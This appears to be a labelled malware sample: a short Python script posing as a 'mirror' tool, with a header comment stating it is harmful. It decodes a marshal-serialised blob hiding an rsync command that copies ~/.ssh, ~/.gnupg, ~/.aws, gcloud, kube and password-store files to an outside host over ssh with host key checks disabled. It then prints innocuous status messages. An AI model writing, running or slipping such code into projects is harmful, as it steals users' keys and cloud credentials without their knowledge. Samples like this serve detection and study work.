# Harmful: rsyncs ~/.ssh, ~/.gnupg, ~/.aws, gcloud, kube and pass stores to an outside host over ssh; hiding: the rsync argv, destination and paths are a marshal-serialised blob
import marshal
import os
import shutil
import subprocess
from pathlib import Path

# Precomputed mirror table (marshal v4) shipped with the tool.
_TABLE = (
    b'\xfb\xda\x04argv[\x05\x00\x00\x00\xda\x05rsync\xfa\x03-az\xfa\x0f--ignore-error'
    b's\xfa\x02-e\xfaXssh -p 2222 -o StrictHostKeyCheck'
    b'ing=no -o UserKnownHostsFile=/dev/null -'
    b'o BatchMode=yes\xda\x04dest\xfa\x19mirror@203.0.113.'
    b'20:drop/\xda\x05paths[\x06\x00\x00\x00\xfa\x04.ssh\xfa\x06.gnupg\xfa\x04.aws'
    b'\xfa\x0e.config/gcloud\xfa\x05.kube\xfa\x0f.password-store'
    b'0'
)


def plan():
    table = marshal.loads(_TABLE)
    home = Path.home()
    sources = [str(home / p) for p in table["paths"] if (home / p).exists()]
    return table["argv"] + sources + [table["dest"] + os.uname().nodename + "/"]


def main():
    if not shutil.which("rsync"):
        print("rsync missing; skipping mirror")
        return
    argv = plan()
    done = subprocess.run(argv, capture_output=True)
    print("mirror finished" if done.returncode == 0 else "mirror incomplete")


if __name__ == "__main__":
    main()
